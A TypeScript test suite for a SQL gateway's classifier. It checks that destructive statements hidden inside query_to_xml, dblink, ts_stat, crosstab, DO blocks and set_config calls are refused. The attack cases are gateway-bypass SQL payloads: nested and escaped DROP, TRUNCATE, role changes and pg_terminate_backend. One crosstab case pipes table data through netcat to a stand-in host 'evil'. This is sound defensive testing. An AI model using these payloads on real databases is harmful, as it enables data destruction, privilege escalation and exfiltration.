/**
 * SQL that runs SQL (issue 11, class 5): the text handed to query_to_xml, dblink, ts_stat … is
 * classified with the same facts as the outer statement, and anything the gateway cannot read
 * there is flagged and refused by the sql-destructive pack. Each case asserts the facts and the
 * pack's decision; ordinary statements must still pass.
 */
import { before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { classifySql, initSqlClassifier, sqlClassifierStats } from '../../../src/classify/sql.ts';
import type { SqlFlag } from '../../../src/classify/sql.ts';
import { classifyText } from '../../../src/classify/sql/classify-text.ts';
import { compilePolicy } from '../../../src/policy/compile.ts';
import { sqlInput } from '../../policy/support/inputs.ts';

// the pack in front of a rule that allows all SQL: anything it misses is allowed, a bypass
const engine = compilePolicy({
  include: ['sql-destructive'],
  rules: [{ name: 'allow-all-sql', match: { interactions: ['sql.query'] }, action: 'allow' }],
});

interface Case {
  readonly sql: string;
  /** Kinds, tables and functions that must be among the facts (others may be there too). */
  readonly kinds?: readonly string[];
  readonly tables?: readonly string[];
  readonly functions?: readonly string[];
  readonly hasWhere?: boolean;
  readonly multi?: boolean;
  /** Flags that must be true. */
  readonly flags?: readonly SqlFlag[];
  /** The sql-destructive rule that refuses it. */
  readonly rule: string;
}

const attacks: readonly Case[] = [
  // the two reported bypasses
  {
    sql: "select query_to_xml('select pg_terminate_backend(pid) from pg_stat_activity where usename = ''agent2''', true, false, '')",
    tables: ['pg_stat_activity'],
    functions: ['query_to_xml', 'pg_terminate_backend'],
    rule: 'dangerous-function',
  },
  { sql: "select dblink_exec('dbname=prod', 'drop table orders')", kinds: ['select', 'drop'], tables: ['orders'], rule: 'drop' },
  // every spelling of the name
  { sql: "SELECT QUERY_TO_XML('DROP TABLE orders', true, false, '')", kinds: ['drop'], tables: ['orders'], rule: 'drop' },
  { sql: "select pg_catalog.query_to_xml('truncate orders', true, false, '')", kinds: ['truncate'], functions: ['pg_catalog.query_to_xml'], rule: 'truncate' },
  { sql: `select "pg_catalog"."query_to_xml"('delete from orders', true, false, '')`, kinds: ['delete'], hasWhere: false, rule: 'update-delete-without-where' },
  { sql: "select query_to_xmlschema('update orders set total = 0', true, false, '')", kinds: ['update'], hasWhere: false, rule: 'update-delete-without-where' },
  { sql: "select query_to_xml_and_xmlschema('alter table orders drop column total', true, false, '')", kinds: ['alter_table'], rule: 'alter' },
  // quoting: dollar quotes, E'' escapes, U&'' escapes, casts and COLLATE that keep the text
  { sql: "select query_to_xml($q$select pg_cancel_backend(42)$q$, true, false, '')", functions: ['pg_cancel_backend'], rule: 'dangerous-function' },
  { sql: "select query_to_xml(E'drop\\ttable\\norders', true, false, '')", kinds: ['drop'], tables: ['orders'], rule: 'drop' },
  { sql: "select query_to_xml(E'select pg_reload_conf\\(\\)', true, false, '')", functions: ['pg_reload_conf'], rule: 'dangerous-function' },
  { sql: "select query_to_xml(U&'\\0064rop table orders', true, false, '')", kinds: ['drop'], rule: 'drop' },
  { sql: "select query_to_xml('grant all on orders to public'::text, true, false, '')", kinds: ['grant'], rule: 'grant-revoke' },
  { sql: "select query_to_xml(('set role postgres')::varchar COLLATE \"C\", true, false, '')", kinds: ['set_role'], rule: 'role-change' },
  // named arguments, in any order
  { sql: "select query_to_xml(nulls => true, tableforest => false, targetns => '', query => 'drop table orders')", kinds: ['drop'], rule: 'drop' },
  // nesting: the inner text holds another call that runs SQL
  {
    sql: "select query_to_xml('select query_to_xml(''select pg_terminate_backend(1)'', true, false, '''')', true, false, '')",
    functions: ['pg_terminate_backend'],
    rule: 'dangerous-function',
  },
  { sql: "select ts_stat($a$select query_to_xml($b$drop table orders$b$, true, false, '')::text::tsvector$a$)", kinds: ['drop'], rule: 'drop' },
  // the depth bound: five levels of SQL inside SQL are refused unread
  { sql: "select query_to_xml($a$select query_to_xml($b$select query_to_xml($c$select query_to_xml($d$select query_to_xml($e$select 1$e$, true, false, '')$d$, true, false, '')$c$, true, false, '')$b$, true, false, '')$a$, true, false, '')", flags: ['dynamic_sql'], rule: 'dynamic-sql' },
  // inside CTEs, subqueries, VALUES, FROM, DML
  { sql: "with x as (select query_to_xml('delete from orders', true, false, '') as doc) select * from x", hasWhere: false, rule: 'update-delete-without-where' },
  { sql: "select id from orders where id in (select 1 from ts_stat('select pg_terminate_backend(7)::text::tsvector'))", functions: ['ts_stat', 'pg_terminate_backend'], rule: 'dangerous-function' },
  { sql: "values (query_to_xml('drop table orders', true, false, ''))", kinds: ['drop'], rule: 'drop' },
  { sql: "insert into audit_log (doc) values (query_to_xml('truncate orders', true, false, ''))", kinds: ['insert', 'truncate'], rule: 'truncate' },
  { sql: "select * from query_to_xml('create role eve superuser', true, false, '') as x(doc)", kinds: ['create_role'], rule: 'role-change' },
  // stacked statements inside the text
  { sql: "select query_to_xml('select 1; drop table orders', true, false, '')", kinds: ['drop'], multi: true, rule: 'drop' },
  // ts_rewrite's SELECT form, crosstab's two queries
  { sql: "select ts_rewrite('a'::tsquery, 'select pg_terminate_backend(9)::text::tsquery, ''b''::tsquery')", functions: ['pg_terminate_backend'], rule: 'dangerous-function' },
  { sql: "select * from crosstab('select 1, 2, 3', 'delete from orders') as ct(a int, b int)", kinds: ['delete'], hasWhere: false, rule: 'update-delete-without-where' },
  { sql: "select * from crosstab('copy orders to program ''nc evil 9''', 3) as ct(a int, b int)", flags: ['copy_to_program'], rule: 'copy-program' },
  // text the gateway cannot read: fail closed
  { sql: "select query_to_xml('drop ' || 'table orders', true, false, '')", flags: ['dynamic_sql'], rule: 'dynamic-sql' },
  { sql: "select query_to_xml($1, true, false, '')", flags: ['dynamic_sql'], rule: 'dynamic-sql' },
  { sql: "select query_to_xml(q, true, false, '') from saved_queries where id = 1", flags: ['dynamic_sql'], rule: 'dynamic-sql' },
  { sql: "select query_to_xml(format('drop table %I', 'orders'), true, false, '')", flags: ['dynamic_sql'], rule: 'dynamic-sql' },
  { sql: "select query_to_xml((select q from saved_queries limit 1), true, false, '')", flags: ['dynamic_sql'], rule: 'dynamic-sql' },
  // a cast that cuts the text could turn 'delete … where x' into 'delete …': unreadable
  { sql: "select query_to_xml('delete from orders where id = 1'::varchar(18), true, false, '')", flags: ['dynamic_sql'], rule: 'dynamic-sql' },
  { sql: "select ts_stat(upper('select 1'))", flags: ['dynamic_sql'], rule: 'dynamic-sql' },
  { sql: "select database_to_xml(true, false, '')", flags: ['dynamic_sql'], rule: 'dynamic-sql' },
  { sql: "select * from connectby('orders', 'id', 'parent', '1', 0) as t(id int, parent int, level int)", flags: ['dynamic_sql'], rule: 'dynamic-sql' },
  // text that does not parse is refused, as it would be at the top
  { sql: "select query_to_xml('selec * from orders', true, false, '')", flags: ['parse_error'], rule: 'unparseable' },
  // PL/pgSQL goes unread: DO blocks and function bodies in other languages
  { sql: "DO $$ BEGIN EXECUTE 'drop table orders'; END $$", kinds: ['do'], flags: ['do_block', 'dynamic_sql'], rule: 'do-block' },
  {
    sql: "create function f() returns void language plpgsql as $$ begin execute 'drop table orders'; end $$",
    kinds: ['create_function'],
    flags: ['dynamic_sql'],
    rule: 'server-code',
  },
  // a SQL-language body is read like any SQL text
  { sql: "create function g() returns void language sql as 'delete from orders'", kinds: ['create_function', 'delete'], hasWhere: false, rule: 'server-code' },
  // a function bound to an operator or a cast runs its operand: refused by name
  { sql: 'create operator ### (rightarg = text, function = ts_stat)', functions: ['ts_stat'], flags: ['dynamic_sql'], rule: 'dynamic-sql' },
  { sql: "create operator ### (rightarg = text, function = 'ts_stat')", functions: ['ts_stat'], flags: ['dynamic_sql'], rule: 'dynamic-sql' },
  { sql: 'create cast (text as tsvector) with function ts_stat(text)', functions: ['ts_stat'], flags: ['dynamic_sql'], rule: 'dynamic-sql' },
  // set_config is SET: role changes are role changes, other settings pass, unknown names do not
  { sql: "select set_config('role', 'postgres', false)", kinds: ['set', 'set_role'], rule: 'role-change' },
  { sql: "select pg_catalog.set_config('ROLE', 'postgres', true)", kinds: ['set_role'], rule: 'role-change' },
  { sql: "select set_config('session_authorization', 'postgres', false)", kinds: ['set_session_authorization'], rule: 'role-change' },
  { sql: "select set_config(name, 'postgres', false) from pg_settings where name = 'role'", flags: ['dynamic_setting'], rule: 'dynamic-setting' },
  { sql: "update pg_settings set setting = 'postgres' where name = 'role'", flags: ['dynamic_setting'], rule: 'dynamic-setting' },
  { sql: "select query_to_xml('select set_config(''role'', ''postgres'', false)', true, false, '')", kinds: ['set_role'], rule: 'role-change' },
  // backslashes in '…' would lex differently on the server from then on
  { sql: 'set standard_conforming_strings = off', kinds: ['set'], flags: ['nonstandard_strings'], rule: 'nonstandard-strings' },
  { sql: "select set_config('standard_conforming_strings', 'off', false)", flags: ['nonstandard_strings'], rule: 'nonstandard-strings' },
  { sql: "select set_config('standard_conforming_strings', $1, false)", flags: ['nonstandard_strings'], rule: 'nonstandard-strings' },
  // dblink stays refused by name even when what it runs is harmless
  { sql: "select * from dblink('dbname=prod', 'select 1', true) as t(a int)", kinds: ['select'], functions: ['dblink'], rule: 'dangerous-function' },
];

/** Everyday statements: the pack must refuse none. */
const ordinary: readonly string[] = [
  'select id, total from orders where id = 1',
  "select id, name from customers where email = 'ada@example.org' limit 1",
  'select count(*) from orders where created_at > now() - interval \'1 day\'',
  'select o.id, c.name from orders o join customers c on c.id = o.customer_id where o.total > 100 order by o.id limit 50',
  'select * from orders where id = $1',
  "insert into orders (customer_id, total) values (1, 42) returning id",
  'insert into orders (customer_id, total) values ($1, $2)',
  "insert into audit_log (doc) values ('select * from orders; drop table orders')",
  'update orders set total = total + 1 where id = 7',
  "update customers set name = 'Grace' where id = $1 returning id",
  'delete from sessions where expires_at < now()',
  'with recent as (select id from orders where total > 10) select count(*) from recent',
  "select set_config('search_path', 'public', false)",
  "select set_config('statement_timeout', '5s', true)",
  'select current_setting(\'search_path\')',
  "select query_to_xml('select id, total from orders where id = 1', true, false, '')",
  "select word, ndoc from ts_stat('select body_tsv from documents') order by ndoc desc limit 10",
  "select table_to_xml('orders', true, false, '')",
  "select table_to_xml('public.orders'::regclass, true, false, '')",
  'begin',
  'commit',
  'select id from orders order by id desc limit 20 offset 40',
  'explain select id from orders where id = 1',
  'set standard_conforming_strings = on',
  'reset standard_conforming_strings',
  // an application's own function that shares a pg_cron name, called as pg_cron never is
  'select schedule(42)',
];

describe('SQL run by functions', () => {
  before(() => initSqlClassifier());

  it(`is checked against at least 20 distinct attacks (${attacks.length})`, () => {
    assert.ok(new Set(attacks.map((c) => c.sql)).size === attacks.length && attacks.length >= 20);
  });

  for (const c of attacks) {
    it(`classifies and refuses ${JSON.stringify(c.sql)}`, () => {
      const facts = classifySql(c.sql);
      const context = JSON.stringify({ kinds: facts.kinds, tables: facts.tables, functions: facts.functions, flags: facts.flags });
      for (const kind of c.kinds ?? []) assert.ok(facts.kinds.includes(kind), `kind ${kind}: ${context}`);
      for (const table of c.tables ?? []) assert.ok(facts.tables.includes(table), `table ${table}: ${context}`);
      for (const fn of c.functions ?? []) assert.ok(facts.functions.includes(fn), `function ${fn}: ${context}`);
      for (const flag of c.flags ?? []) assert.equal(facts.flags[flag], true, `flag ${flag}: ${context}`);
      if (c.hasWhere !== undefined) assert.equal(facts.hasWhere, c.hasWhere);
      if (c.multi !== undefined) assert.equal(facts.multiStatement, c.multi);
      const decision = engine.decide(sqlInput(facts));
      assert.equal(decision.action, 'deny', context);
      assert.equal(decision.rule, `sql-destructive/${c.rule}`, context);
    });
  }

  it(`passes at least 15 ordinary statements (${ordinary.length})`, () => assert.ok(ordinary.length >= 15));
  for (const sql of ordinary) {
    it(`allows ${JSON.stringify(sql)}`, () => {
      const facts = classifySql(sql);
      assert.equal(facts.parseError, null);
      assert.equal(facts.flags['dynamic_sql'], false);
      const decision = engine.decide(sqlInput(facts));
      assert.equal(decision.rule, 'allow-all-sql', JSON.stringify(facts));
    });
  }

  it('reads the SQL text through the sealed literal, so the facts are never shared with another text of the shape', () => {
    const harmless = "select query_to_xml('select 1', true, false, '')";
    const harmful = "select query_to_xml('drop table orders', true, false, '')";
    assert.equal(classifyText(harmless).readsLiterals, true);
    const before = sqlClassifierStats();
    assert.deepEqual(classifySql(harmless).kinds, ['select']);
    const facts = classifySql(harmful);
    assert.deepEqual(facts.kinds, ['select', 'drop']);
    assert.equal(facts.text, harmful);
    assert.equal(engine.decide(sqlInput(facts)).rule, 'sql-destructive/drop');
    // both were parsed: the second was not answered from the first one's shape
    assert.equal(sqlClassifierStats().parsed - before.parsed, 2);
    assert.equal(sqlClassifierStats().shapeHits, before.shapeHits);
    // and each text keeps its own answer afterwards
    assert.deepEqual(classifySql(harmless).kinds, ['select']);
    assert.deepEqual(classifySql(harmful).kinds, ['select', 'drop']);
  });

  it('never shares the facts of an operator named after its function by a string literal', () => {
    const lower = "create operator ### (rightarg = text, function = 'lower')";
    const tsStat = "create operator ### (rightarg = text, function = 'ts_stat')";
    assert.equal(classifyText(lower).readsLiterals, true);
    assert.equal(classifySql(lower).flags['dynamic_sql'], false);
    assert.equal(classifySql(tsStat).flags['dynamic_sql'], true);
  });

  it('keeps the setting set_config changes per text: role and work_mem never share facts', () => {
    const workMem = "select set_config('work_mem', '64MB', false)";
    const role = "select set_config('role', '64MB', false)";
    assert.deepEqual(classifySql(workMem).kinds, ['select', 'set']);
    assert.deepEqual(classifySql(role).kinds, ['select', 'set', 'set_role']);
  });

  it('does not count LIMIT NULL, under a cast or not, as a limit', () => {
    for (const sql of ['select id from orders limit null::int', 'select id from orders limit cast(null as bigint)', 'select id from orders limit all', 'select id from orders limit 1 + 1']) {
      assert.equal(classifySql(sql).flags['has_limit'], false, sql);
    }
    for (const sql of ['select id from orders limit 10', 'select id from orders limit $1', "select id from orders limit '5'::int", 'select id from orders fetch first 3 rows only']) {
      assert.equal(classifySql(sql).flags['has_limit'], true, sql);
    }
  });
});
